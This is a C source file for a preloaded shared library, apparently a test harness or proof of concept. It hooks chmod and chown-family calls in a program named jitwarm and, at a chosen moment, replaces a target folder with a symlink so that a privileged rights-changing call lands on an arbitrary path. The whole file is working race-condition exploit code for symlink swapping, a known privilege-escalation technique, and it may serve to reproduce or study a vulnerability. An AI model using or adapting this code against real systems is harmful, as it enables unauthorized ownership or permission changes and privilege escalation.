/* swap.so: preloaded into jitwarm, it attacks at a chosen place instead of at a random moment.
 * Before the first call that changes rights while a folder named $SWAP_PREFIX and eight more
 * letters exists, account $SWAP_ACCOUNT moves that folder away and puts a link to $SWAP_TARGET
 * there. It makes $SWAP_DONE after the attempt. */
#include <dlfcn.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static int struck;

static void strike(const char *folder)
{
	const char *done = getenv("SWAP_DONE"), *target = getenv("SWAP_TARGET");
	const char *account = getenv("SWAP_ACCOUNT");
	char aside[PATH_MAX + sizeof ".aside"];
	pid_t child;

	if (!done || !target || !account)
		return;
	struck = 1;
	child = fork();
	if (!child) {
		const unsigned id = (unsigned)strtoul(account, NULL, 10);

		/* The thread may have another account's rights for the call */
		(void)!setresuid(0, 0, 0);
		(void)close(open(done, O_CREAT | O_WRONLY | O_CLOEXEC, 0600));
		(void)snprintf(aside, sizeof aside, "%s.aside", folder);
		if (!setgid(id) && !setuid(id) && !rename(folder, aside))
			(void)!symlink(target, folder);
		_exit(0);
	}
	(void)waitpid(child, NULL, 0);
}

/* Looks whether the folder exists. */
static void look(void)
{
	const char *prefix = getenv("SWAP_PREFIX");
	char above[PATH_MAX], command[2 * PATH_MAX], found[PATH_MAX];
	FILE *names;

	if (struck || !prefix)
		return;
	(void)snprintf(above, sizeof above, "%s", prefix);
	(void)snprintf(command, sizeof command, "find '%s'???????? -maxdepth 0 -type d 2>/dev/null",
				   above);
	names = popen(command, "re");
	if (names && fgets(found, sizeof found, names)) {
		found[strcspn(found, "\n")] = '\0';
		strike(found);
	}
	if (names)
		(void)pclose(names);
}

int chmod(const char *path, mode_t mode)
{
	int (*next)(const char *path, mode_t mode) = dlsym(RTLD_NEXT, "chmod");

	look();
	return next(path, mode);
}

int lchown(const char *path, uid_t owner, gid_t group)
{
	int (*next)(const char *path, uid_t owner, gid_t group) = dlsym(RTLD_NEXT, "lchown");

	look();
	return next(path, owner, group);
}

int fchmodat(int dir, const char *path, mode_t mode, int flags)
{
	int (*next)(int dir, const char *path, mode_t mode, int flags) = dlsym(RTLD_NEXT, "fchmodat");

	look();
	return next(dir, path, mode, flags);
}

int fchownat(int dir, const char *path, uid_t owner, gid_t group, int flags)
{
	int (*next)(int dir, const char *path, uid_t owner, gid_t group, int flags) =
		dlsym(RTLD_NEXT, "fchownat");

	look();
	return next(dir, path, owner, group, flags);
}
